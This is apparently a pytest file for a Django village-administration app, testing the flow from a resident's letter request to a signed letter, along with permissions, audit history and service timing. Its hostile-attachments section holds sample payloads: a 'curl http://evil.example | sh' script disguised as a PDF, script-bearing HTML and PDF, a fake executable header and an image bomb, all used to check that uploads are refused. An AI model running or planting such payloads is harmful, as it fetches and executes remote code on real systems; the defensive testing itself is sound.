"""The request flow: request → check or return → approve or reject → signed letter.

Permission matrix for every step; hostile attachments refused with nothing stored; status
history; the time from request to signed letter; notifications."""

from __future__ import annotations

import io
import os
from pathlib import Path

import pytest
from django.conf import settings
from django.utils import timezone

from smartkampung.accounts.models import Role
from smartkampung.accounts.testing import assert_refused_unchanged, permission_matrix, snapshot_rows
from smartkampung.audit.models import AuditEvent
from smartkampung.core.exceptions import DomainError
from smartkampung.letters.models import (
    Attachment,
    Letter,
    LetterRequest,
    Notification,
    RequestEvent,
    RequestStatus,
)
from smartkampung.letters.notifications import LocmemBackend
from smartkampung.letters.services import requests as services
from smartkampung.letters.services.letters import letter_revoke

from .conftest import jpeg_bytes, pdf_bytes

pytestmark = pytest.mark.django_db

ROWS = (LetterRequest, Attachment, RequestEvent, Letter, AuditEvent)


def _rows():
    return snapshot_rows(*ROWS)


def _stored_files() -> list[str]:
    root = Path(settings.MEDIA_ROOT) / "letter-requests"
    return sorted(str(p) for p in root.rglob("*") if p.is_file()) if root.exists() else []


def _uploads():
    return [
        services.Upload("ktp", "ktp.jpg", jpeg_bytes()),
        services.Upload("kk", "kk.pdf", pdf_bytes()),
    ]


def _verified(request, operator):
    return services.letter_request_check(actor=operator, request_id=request.pk)


# --- the happy path --------------------------------------------------------------------------


def test_full_flow_issues_a_signed_letter(
    spm_request, operator, head, django_capture_on_commit_callbacks
):
    assert spm_request.status == RequestStatus.SUBMITTED
    assert spm_request.channel == "online"
    assert spm_request.submitted_at is not None
    services.letter_request_check(actor=operator, request_id=spm_request.pk)
    with django_capture_on_commit_callbacks(execute=True):
        approved = services.letter_request_approve(actor=head, request_id=spm_request.pk)
    assert approved.status == RequestStatus.ISSUED
    letter = approved.letter
    assert letter.is_signed and letter.number.startswith("460/001/35.10.01.2001/")
    assert letter.subject_name == "Siti Aminah"
    assert letter.subject_nik == spm_request.resident.nik
    assert letter.signer_name == head.display_name
    assert letter.issue_seconds is not None and letter.issue_seconds >= 0
    history = [e.status_to for e in approved.events.all()]
    assert history == ["draft", "submitted", "verified", "approved", "issued"]
    assert any("460/001" in m.message for m in LocmemBackend.outbox)
    assert Notification.objects.filter(user=spm_request.resident.user).exists()


def test_letter_prints_the_register_data(spm_request, operator, head, tmp_path):
    import subprocess

    _verified(spm_request, operator)
    letter = services.letter_request_approve(actor=head, request_id=spm_request.pk).letter
    path = tmp_path / "l.pdf"
    with letter.pdf.open("rb") as handle:
        path.write_bytes(handle.read())
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True).stdout
    assert "Perempuan" in text and "Islam" in text and "5 Juli 1990" in text
    assert "Banyuwangi" in text and "RT 001/RW 002" in text


def test_operator_takes_a_request_at_the_counter(citizen, operator, spm):
    request = services.letter_request_create(
        actor=operator,
        letter_type=spm,
        resident=citizen,
        values={"keperluan": "pengajuan bantuan sosial"},
        uploads=_uploads(),
        submit=True,
    )
    assert request.channel == "counter"
    assert request.applicant == citizen.user  # the citizen still follows it


def test_citizen_may_request_for_a_household_member(citizen, operator, village, spm):
    from smartkampung.population.codes import FamilyRole
    from smartkampung.population.testing import make_resident

    child = make_resident(
        actor=operator,
        village=village,
        full_name="Adi Pratama",
        kk_number=citizen.household.kk_number,
        family_role=FamilyRole.CHILD,
    )
    request = services.letter_request_create(
        actor=citizen.user,
        letter_type=spm,
        resident=child,
        values={"keperluan": "keringanan biaya pendidikan"},
    )
    assert request.resident == child and request.applicant == citizen.user


def test_citizen_cannot_request_for_a_stranger(citizen, operator, village, spm):
    from smartkampung.population.testing import make_resident

    stranger = make_resident(actor=operator, village=village, full_name="Orang Lain")
    assert_refused_unchanged(
        lambda: services.letter_request_create(
            actor=citizen.user, letter_type=spm, resident=stranger, values={"keperluan": "x"}
        ),
        snapshot=_rows,
    )


def test_returned_request_is_corrected_and_sent_again(spm_request, operator, head):
    services.letter_request_return(
        actor=operator, request_id=spm_request.pk, reason="Foto KTP buram"
    )
    returned = LetterRequest.objects.get(pk=spm_request.pk)
    assert returned.status == RequestStatus.RETURNED and returned.status_reason == "Foto KTP buram"
    user = spm_request.resident.user
    services.letter_request_attach(
        actor=user, request_id=spm_request.pk, uploads=[services.Upload("ktp", "k.png", _png())]
    )
    services.letter_request_submit(actor=user, request_id=spm_request.pk)
    again = LetterRequest.objects.get(pk=spm_request.pk)
    assert again.status == RequestStatus.SUBMITTED
    assert again.submitted_at == spm_request.submitted_at  # time counts from the first request


def test_rejected_request_cannot_be_approved(spm_request, operator, head):
    _verified(spm_request, operator)
    services.letter_request_reject(
        actor=head, request_id=spm_request.pk, reason="Bukan warga miskin"
    )
    assert_refused_unchanged(
        lambda: services.letter_request_approve(actor=head, request_id=spm_request.pk),
        snapshot=_rows,
    )


def test_approve_needs_a_checked_request(spm_request, head):
    error = assert_refused_unchanged(
        lambda: services.letter_request_approve(actor=head, request_id=spm_request.pk),
        snapshot=_rows,
    )
    assert error.status == 409


def test_submit_needs_the_required_documents(citizen, spm):
    request = services.letter_request_create(
        actor=citizen.user,
        letter_type=spm,
        resident=citizen,
        values={"keperluan": "pelayanan kesehatan gratis"},
    )
    error = assert_refused_unchanged(
        lambda: services.letter_request_submit(actor=citizen.user, request_id=request.pk),
        snapshot=_rows,
    )
    assert error.code == "document_missing"


@pytest.mark.parametrize(
    "values",
    [
        {},
        {"keperluan": "bukan pilihan"},
        {"keperluan": "pelayanan kesehatan gratis", "jumlah_tanggungan": "tiga"},
        {"keperluan": "pelayanan kesehatan gratis", "tidak_ada": "x"},
        {"keperluan": "pelayanan kesehatan gratis", "penghasilan": "x" * 201},
    ],
)
def test_invalid_fields_are_refused(citizen, spm, values):
    error = assert_refused_unchanged(
        lambda: services.letter_request_create(
            actor=citizen.user, letter_type=spm, resident=citizen, values=values
        ),
        snapshot=_rows,
    )
    assert error.code == "field_invalid" and error.details


def test_revoking_notes_it_in_the_history_and_tells_the_citizen(
    spm_request, operator, head, django_capture_on_commit_callbacks
):
    _verified(spm_request, operator)
    letter = services.letter_request_approve(actor=head, request_id=spm_request.pk).letter
    with django_capture_on_commit_callbacks(execute=True):
        letter_revoke(actor=head, letter_id=letter.pk, reason="Data penghasilan keliru")
    assert "Data penghasilan keliru" in spm_request.events.last().note
    assert "Data penghasilan keliru" in LocmemBackend.outbox[-1].message


# --- hostile attachments ---------------------------------------------------------------------


def _png(size=(30, 20)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 10, 10)).save(buffer, format="PNG")
    return buffer.getvalue()


def _bomb() -> bytes:
    """A small PNG that decodes to 100 megapixels."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


HOSTILE = {
    "script renamed .pdf": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "html renamed .jpg": b"<html><script>alert(1)</script></html>",
    "pdf with javascript": (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
        b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    ),
    "truncated jpeg": jpeg_bytes()[:60],
    "executable": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 100,
    "empty": b"",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_attachments_are_refused_and_nothing_is_stored(citizen, spm, name):
    before_files = _stored_files()
    uploads = [
        services.Upload("kk", "kk.pdf", pdf_bytes()),  # a good file alongside: not kept either
        services.Upload("ktp", "ktp.pdf", HOSTILE[name]),
    ]
    assert_refused_unchanged(
        lambda: services.letter_request_create(
            actor=citizen.user,
            letter_type=spm,
            resident=citizen,
            values={"keperluan": "pelayanan kesehatan gratis"},
            uploads=uploads,
            submit=True,
        ),
        snapshot=_rows,
    )
    assert _stored_files() == before_files


def test_an_image_bomb_is_refused_and_nothing_is_stored(citizen, spm):
    before_files = _stored_files()
    bomb = _bomb()
    assert len(bomb) < 200_000  # small on the wire
    error = assert_refused_unchanged(
        lambda: services.letter_request_create(
            actor=citizen.user,
            letter_type=spm,
            resident=citizen,
            values={"keperluan": "pelayanan kesehatan gratis"},
            uploads=[services.Upload("ktp", "ktp.png", bomb)],
        ),
        snapshot=_rows,
    )
    assert error.code == "image_too_large"
    assert _stored_files() == before_files


def test_an_oversized_attachment_is_refused(citizen, spm, settings):
    settings.SK_LETTERS_ATTACHMENT_MAX_BYTES = 1000
    error = assert_refused_unchanged(
        lambda: services.letter_request_create(
            actor=citizen.user,
            letter_type=spm,
            resident=citizen,
            values={"keperluan": "pelayanan kesehatan gratis"},
            uploads=[services.Upload("ktp", "ktp.jpg", os.urandom(1001))],
        ),
        snapshot=_rows,
    )
    assert error.status == 413


def test_an_unknown_document_is_refused(spm_request):
    user = spm_request.resident.user
    LetterRequest.objects.filter(pk=spm_request.pk).update(status=RequestStatus.RETURNED)
    assert_refused_unchanged(
        lambda: services.letter_request_attach(
            actor=user,
            request_id=spm_request.pk,
            uploads=[services.Upload("paspor", "p.jpg", jpeg_bytes())],
        ),
        snapshot=_rows,
    )


def test_too_many_attachments_are_refused(spm_request, settings):
    settings.SK_LETTERS_MAX_ATTACHMENTS = 2
    LetterRequest.objects.filter(pk=spm_request.pk).update(status=RequestStatus.RETURNED)
    before_files = _stored_files()
    assert_refused_unchanged(
        lambda: services.letter_request_attach(
            actor=spm_request.resident.user,
            request_id=spm_request.pk,
            uploads=[services.Upload("foto_rumah", "r.jpg", jpeg_bytes())],
        ),
        snapshot=_rows,
    )
    assert _stored_files() == before_files


def test_attachments_cannot_change_after_submission(spm_request):
    assert_refused_unchanged(
        lambda: services.letter_request_attach(
            actor=spm_request.resident.user,
            request_id=spm_request.pk,
            uploads=[services.Upload("foto_rumah", "r.jpg", jpeg_bytes())],
        ),
        snapshot=_rows,
    )


# --- permission matrix for every step --------------------------------------------------------


@permission_matrix(allowed={"staff_with_role"})
def test_counter_request_permission_matrix(
    actor_kind, allowed, matrix_actor, village, citizen, spm
):
    actor = matrix_actor(
        actor_kind, village=village, role=Role.VILLAGE_OPERATOR, other_role=Role.VILLAGE_TREASURER
    )
    call = lambda: services.letter_request_create(  # noqa: E731
        actor=actor,
        letter_type=spm,
        resident=citizen,
        values={"keperluan": "pelayanan kesehatan gratis"},
    )
    if allowed:
        assert call().channel == "counter"
    else:
        assert_refused_unchanged(call, snapshot=_rows)


@permission_matrix(allowed={"staff_with_role"})
def test_check_permission_matrix(actor_kind, allowed, matrix_actor, village, spm_request):
    actor = matrix_actor(
        actor_kind, village=village, role=Role.VILLAGE_OPERATOR, other_role=Role.VILLAGE_TREASURER
    )
    call = lambda: services.letter_request_check(actor=actor, request_id=spm_request.pk)  # noqa: E731
    if allowed:
        assert call().status == RequestStatus.VERIFIED
    else:
        assert_refused_unchanged(call, snapshot=_rows)


@permission_matrix(allowed={"staff_with_role"})
def test_return_permission_matrix(actor_kind, allowed, matrix_actor, village, spm_request):
    actor = matrix_actor(
        actor_kind, village=village, role=Role.VILLAGE_OPERATOR, other_role=Role.VILLAGE_TREASURER
    )
    call = lambda: services.letter_request_return(  # noqa: E731
        actor=actor, request_id=spm_request.pk, reason="KK tidak terbaca"
    )
    if allowed:
        assert call().status == RequestStatus.RETURNED
    else:
        assert_refused_unchanged(call, snapshot=_rows)


@permission_matrix(allowed={"staff_with_role"})
def test_approve_permission_matrix(
    actor_kind, allowed, matrix_actor, village, spm_request, operator
):
    _verified(spm_request, operator)
    actor = matrix_actor(
        actor_kind, village=village, role=Role.VILLAGE_HEAD, other_role=Role.VILLAGE_OPERATOR
    )
    call = lambda: services.letter_request_approve(actor=actor, request_id=spm_request.pk)  # noqa: E731
    if allowed:
        assert call().status == RequestStatus.ISSUED
    else:
        assert_refused_unchanged(call, snapshot=_rows)


@permission_matrix(allowed={"staff_with_role"})
def test_reject_permission_matrix(
    actor_kind, allowed, matrix_actor, village, spm_request, operator
):
    _verified(spm_request, operator)
    actor = matrix_actor(
        actor_kind, village=village, role=Role.VILLAGE_HEAD, other_role=Role.VILLAGE_OPERATOR
    )
    call = lambda: services.letter_request_reject(  # noqa: E731
        actor=actor, request_id=spm_request.pk, reason="Tidak memenuhi syarat"
    )
    if allowed:
        assert call().status == RequestStatus.REJECTED
    else:
        assert_refused_unchanged(call, snapshot=_rows)


@permission_matrix(allowed=set())
def test_only_the_applicant_cancels(actor_kind, allowed, matrix_actor, village, spm_request):
    actor = matrix_actor(actor_kind, village=village, role=Role.VILLAGE_OPERATOR)
    assert_refused_unchanged(
        lambda: services.letter_request_cancel(actor=actor, request_id=spm_request.pk),
        snapshot=_rows,
    )
    cancelled = services.letter_request_cancel(
        actor=spm_request.resident.user, request_id=spm_request.pk
    )
    assert cancelled.status == RequestStatus.CANCELLED


@permission_matrix(allowed=set())
def test_only_the_applicant_or_the_counter_edits(
    actor_kind, allowed, matrix_actor, village, spm_request
):
    LetterRequest.objects.filter(pk=spm_request.pk).update(status=RequestStatus.RETURNED)
    actor = matrix_actor(
        actor_kind, village=village, role=Role.VILLAGE_HEAD, other_role=Role.VILLAGE_TREASURER
    )
    assert_refused_unchanged(
        lambda: services.letter_request_update(
            actor=actor, request_id=spm_request.pk, values={"keperluan": "pengajuan bantuan sosial"}
        ),
        snapshot=_rows,
    )


@permission_matrix(allowed={"staff_with_role", "staff_without_role"})
def test_download_permission_matrix(
    actor_kind, allowed, matrix_actor, village, spm_request, operator, head
):
    from smartkampung.letters.selectors import letter_get_for_download

    _verified(spm_request, operator)
    letter = services.letter_request_approve(actor=head, request_id=spm_request.pk).letter
    # staff_without_role: the village head (also village staff) — both may download
    actor = matrix_actor(actor_kind, village=village, role=Role.VILLAGE_OPERATOR)
    if allowed:
        assert letter_get_for_download(actor=actor, letter_id=letter.pk) == letter
    else:
        with pytest.raises(DomainError):
            letter_get_for_download(actor=actor, letter_id=letter.pk)
    assert letter_get_for_download(actor=spm_request.resident.user, letter_id=letter.pk) == letter


def test_history_records_who_did_what(spm_request, operator, head):
    _verified(spm_request, operator)
    services.letter_request_approve(actor=head, request_id=spm_request.pk)
    events = list(spm_request.events.values_list("status_to", "actor__username"))
    assert ("verified", operator.username) in events
    assert ("approved", head.username) in events
    assert AuditEvent.objects.filter(action="letters.request_approve").exists()
    nik = spm_request.resident.nik
    assert not AuditEvent.objects.filter(data_json__contains=nik).exists()


def test_service_time_is_measured_from_the_first_submission(spm_request, operator, head):
    LetterRequest.objects.filter(pk=spm_request.pk).update(
        submitted_at=timezone.now() - timezone.timedelta(minutes=25)
    )
    _verified(spm_request, operator)
    letter = services.letter_request_approve(actor=head, request_id=spm_request.pk).letter
    assert 25 * 60 <= letter.issue_seconds < 26 * 60
